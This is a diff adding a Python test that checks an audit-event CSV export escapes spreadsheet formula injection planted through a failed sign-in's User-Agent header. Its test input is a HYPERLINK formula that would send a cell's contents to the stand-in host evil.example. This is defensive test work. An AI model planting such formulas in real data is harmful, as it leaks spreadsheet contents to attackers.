@@ -102,3 +102,27 @@ async def test_audit_needs_its_permission(
         "/api/v1/tenants/contoso-ltd/audit-events", headers={"Authorization": f"Bearer {token}"}
     )
     assert response.status_code == 403 and response.json()["permission"] == "audit:read"
+
+
+async def test_the_csv_export_cannot_carry_a_formula(world: World) -> None:
+    """Anyone can plant text in the trail: a failed sign-in for a known email records the
+    caller's User-Agent. Opened in a spreadsheet, the export must show it, never run it."""
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    refused = await world.client.post(
+        "/api/v1/auth/sign-in",
+        json={"email": "alex@northwind.example", "password": "not the password"},
+        headers={"User-Agent": planted},
+    )
+    assert refused.status_code == 401
+    export = await world.client.get(
+        "/api/v1/tenants/northwind-it/audit-events/export",
+        params={"format": "csv"},
+        headers=world.as_("alex"),
+    )
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    (failed,) = [r for r in rows if r["action"] == "auth.sign_in_failed"]
+    assert failed["user_agent"] == "'" + planted
+    for row in rows:
+        for value in row.values():
+            assert (value or "x")[0] not in "=+-@\t\r", row
